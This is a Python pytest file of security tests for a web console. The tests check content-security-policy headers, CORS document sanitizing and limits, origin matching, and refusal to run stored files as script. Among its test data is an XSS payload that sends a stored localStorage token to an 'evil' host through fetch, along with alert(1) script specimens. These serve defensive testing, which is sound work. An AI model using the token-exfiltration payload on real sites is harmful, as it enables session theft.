"""What users wrote or named is never run on the console's origin: policies on every reply, and rules instead of documents."""

import secrets
from collections.abc import AsyncIterator

import pytest

from atrium.edge.app import STRICTEST
from atrium.edge.endpoint import Endpoint
from atrium.kit.web.http import policy_of
from atrium.product.console.page import POLICY, WORKER_POLICY
from atrium.product.onboarding.handlers import ASSET_POLICY
from atrium.seams.routes import Auth
from tests.domains.s3.replies import CORS, KINDS, Holder, holder_of
from tests.support.client import Answer, Client
from tests.support.people import Company
from tests.support.servers import fresh_application
from tests.table.rows import ENDPOINTS, name_of
from tests.table.specimens import SPECIMENS, Place
from tests.table.stage import Stage, set_stage

pytestmark = pytest.mark.finding

STRICT = STRICTEST.decode()
SANDBOXED, PDF = policy_of(shows_pdf=False), policy_of(shows_pdf=True)
# The only rows whose replies run under a policy of their own.
OWN = {"/": POLICY, "/index.html": POLICY, "/login": POLICY, "/activate": POLICY, "/sw.js": WORKER_POLICY}
SHOWING = {"/api/repo-obj/:id/content": SANDBOXED, "/api/beta/asset/:id": ASSET_POLICY}
SCRIPT = b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">fetch("//evil/"+localStorage.token)</x:script>'


@pytest.fixture(scope="module")
async def stage() -> AsyncIterator[Stage]:
    async with fresh_application() as house:
        yield await set_stage(house, SPECIMENS)


@pytest.fixture
async def holder(company: Company) -> Holder:
    return await holder_of(await company.join("owner"))


def held(answer: Answer, policy: str = STRICT) -> None:
    """Under this policy and no other, and never taken for another type."""
    assert answer.headers["content-security-policy"] == policy
    assert answer.headers["x-content-type-options"] == "nosniff"


def policy_for(endpoint: Endpoint, answer: Answer) -> str:
    path = endpoint.route.path
    if answer.status == 200 and path == "/docs":
        return answer.headers["content-security-policy"] if "style-src 'sha256-" in str(answer.headers) else STRICT
    own = OWN | SHOWING if endpoint.route.method == "GET" else OWN
    return own.get(path, STRICT) if answer.status == 200 else STRICT


@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=name_of)
async def test_f1_every_reply_of_every_row_has_a_policy(stage: Stage, endpoint: Endpoint) -> None:
    bearer = endpoint.route.auth in (Auth.BEARER, Auth.SUPERADMIN, Auth.ORG_ADMIN)
    place = await stage.place(endpoint) if bearer else Place(stage.ours, stage.ours.team, await stage.ours.join())
    ask = await stage.specimens.ask(endpoint, place)
    nobody = Client(stage.house.app)

    refusals = [await ask.by(nobody), await nobody.send("PROPFIND", ask.path), await nobody.send("OPTIONS", ask.path)]
    answers = [*refusals, await ask.by(place.caller), await place.caller.send("HEAD", ask.path, query=dict(ask.query))]

    for answer in answers:
        held(answer, policy_for(endpoint, answer))


@pytest.mark.parametrize("kind", KINDS)
async def test_f1_every_reply_of_s3_has_a_policy(holder: Holder, kind: str) -> None:
    status, ask = KINDS[kind]

    answer = await ask(holder)

    assert answer.status == status, answer.raw
    shown = answer.status in (200, 206) and answer.headers.get("content-type", "").startswith("text/") and answer.raw
    held(answer, SANDBOXED if shown else STRICT)
    assert answer.headers.get("cache-control") == (
        "no-store" if answer.headers.get("content-type") == "application/xml" else None
    )


async def test_f1_a_cors_document_comes_back_as_its_rules_alone(holder: Holder) -> None:
    sent = CORS.replace(b"<CORSRule>", SCRIPT + b"<CORSRule>").replace(b"</CORSRule>", SCRIPT + b"</CORSRule>")

    written = await holder.ask("PUT", "/files?cors", sent)
    kept = await holder.ask("GET", "/files?cors")

    assert (written.status, kept.status) == (200, 200)
    assert b"script" not in kept.raw
    assert b"<AllowedOrigin>https://*.example</AllowedOrigin>" in kept.raw
    held(kept)


async def test_f1_a_document_without_a_rule_is_refused(holder: Holder) -> None:
    answer = await holder.ask("PUT", "/files?cors", b"<CORSConfiguration>" + SCRIPT + b"</CORSConfiguration>")

    assert (answer.status, b"<Code>MalformedXML</Code>" in answer.raw) == (400, True)
    assert (await holder.ask("GET", "/files?cors")).status == 404


RULE = b"<CORSRule><AllowedOrigin>%s</AllowedOrigin><AllowedMethod>%s</AllowedMethod>%s</CORSRule>"


@pytest.mark.parametrize(
    ("rules", "status"),
    [
        (RULE % (b"https://a.example", b"GET", b"") * 100, 200),
        (RULE % (b"https://a.example", b"GET", b"") * 101, 400),
        (RULE % (b"https://a.example", b"GET", b"<!-- -->"), 400),
        (RULE % (b"o" * 1024, b"GET", b""), 200),
        (RULE % (b"o" * 1025, b"GET", b""), 400),
        (RULE % (b"https://*.*.example", b"GET", b""), 400),
        (RULE % (b"https://a.example", b"TRACE", b""), 400),
        (RULE % (b"https://a.example", b"GET", b"<ExposeHeader>*</ExposeHeader>"), 400),
        (RULE % (b"https://a.example", b"GET", b"<ExposeHeader>a\nb</ExposeHeader>"), 400),
        (RULE % (b"https://a.example", b"GET", b"<MaxAgeSeconds>soon</MaxAgeSeconds>"), 400),
        (RULE % (b"https://a.example", b"GET", b"<AllowedHeader>h</AllowedHeader>" * 101), 400),
        (b" " * (64 << 10) + RULE % (b"https://a.example", b"GET", b""), 400),
    ],
)
async def test_f7_a_cors_document_is_bounded(holder: Holder, rules: bytes, status: int) -> None:
    answer = await holder.ask("PUT", "/files?cors", b"<CORSConfiguration>" + rules + b"</CORSConfiguration>")

    assert answer.status == status, answer.raw


@pytest.mark.parametrize(
    ("pattern", "origin", "fits"),
    [
        ("https://a.example", "https://a.example", True),
        ("https://a.example", "https://a.example.evil", False),
        ("https://*.example", "https://a.example", True),
        ("https://*.example", "https://a.example.evil", False),
        ("https://ab*bc", "https://abc", False),
        ("*", "null", True),
        ("https://[a].example", "https://a.example", False),
    ],
)
async def test_f7_an_origin_is_compared_with_the_kept_rules(
    holder: Holder, pattern: str, origin: str, fits: bool
) -> None:
    rules = RULE % (pattern.encode(), b"GET", b"<ExposeHeader>ETag</ExposeHeader>")
    await holder.ask("PUT", "/files?cors", b"<CORSConfiguration>" + rules + b"</CORSConfiguration>")

    answer = await holder.ask("GET", holder.at("here"), origin=origin)
    written = await holder.ask("PUT", holder.at("other"), b"x", origin=origin)

    assert answer.headers.get("access-control-allow-origin") == (origin if fits else None)
    assert answer.headers.get("access-control-expose-headers") == ("ETag" if fits else None)
    assert "access-control-allow-origin" not in written.headers


PAPER = b"%PDF-1.7\n%" + secrets.token_bytes(100)
PAGE = b"<script>alert(1)</script>"


@pytest.mark.parametrize(
    ("stored", "body", "override", "policy"),
    [
        ("application/pdf", PAPER, None, PDF),
        ("Application/PDF; x=1", PAPER, None, PDF),
        ("application/pdf", PAPER, "application/pdf", PDF),
        ("application/pdf", PAPER, "text/html", SANDBOXED),
        ("application/pdf", PAPER, "application/pdf, text/html", SANDBOXED),
        ("application/pdf", PAGE, None, SANDBOXED),
        ("text/html", PAPER, "application/pdf", SANDBOXED),
        ("text/html", PAGE, "application/pdf", SANDBOXED),
        ("image/svg+xml", PAGE, None, SANDBOXED),
        ("application/xhtml+xml", PAGE, "multipart/x-mixed-replace; boundary=x", SANDBOXED),
    ],
)
async def test_f12_the_policy_follows_the_type_that_is_sent(
    holder: Holder, stored: str, body: bytes, override: str | None, policy: str
) -> None:
    await holder.ask("PUT", holder.at("here"), body, content_type=stored)
    chosen = {"ResponseContentType": override} if override else {}

    answer = await holder.follow("here", chosen)
    later = await holder.follow("here", chosen, range="bytes=1-")

    assert (answer.status, answer.raw) == (200, body)
    held(answer, policy)
    held(later, SANDBOXED)


async def test_f12_a_page_stored_as_a_pdf_is_saved_and_not_shown(alice: Client) -> None:
    stored = await alice.put("/api/repo/paper.pdf", PAGE, headers={"content-type": "application/pdf"})

    answer = await alice.get(f"/api/repo-obj/{stored['id']}/content")

    assert answer.headers["content-disposition"].startswith("attachment;")
    held(answer, SANDBOXED)


async def test_what_only_the_caller_may_see_is_kept_from_other_pages_and_caches(alice: Client) -> None:
    stored = await alice.put("/api/repo/note.txt", b"words")
    listed, shown = await alice.get("/api/repo"), await alice.get(f"/api/repo-obj/{stored['id']}/content")
    page = await alice.get("/")

    assert {one.headers["cross-origin-resource-policy"] for one in (listed, shown, page)} == {"same-origin"}
    assert [one.headers["cache-control"] for one in (listed, shown)] == ["no-store", "private, no-cache"]
    assert page.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("dest", ["script", "worker", "serviceworker", "xslt"])
async def test_a_page_of_this_origin_cannot_run_a_stored_file(alice: Client, holder: Holder, dest: str) -> None:
    stored = await alice.put("/api/repo/code.js", b"alert(1)", headers={"content-type": "text/javascript"})
    path = f"/api/repo-obj/{stored['id']}/content"
    runs = {"sec-fetch-site": "same-origin", "sec-fetch-dest": dest}

    refused = await alice.get(path, headers=runs)
    by_key = await holder.ask("GET", "/files", b"", **runs)
    elsewhere = await alice.get(path, headers=runs | {"sec-fetch-site": "cross-site"})
    shown = await alice.get(path, headers=runs | {"sec-fetch-dest": "image"})

    assert (refused.status, refused.code, by_key.status) == (403, "request.stored_code", 403)
    assert (elsewhere.status, shown.status) == (200, 200)
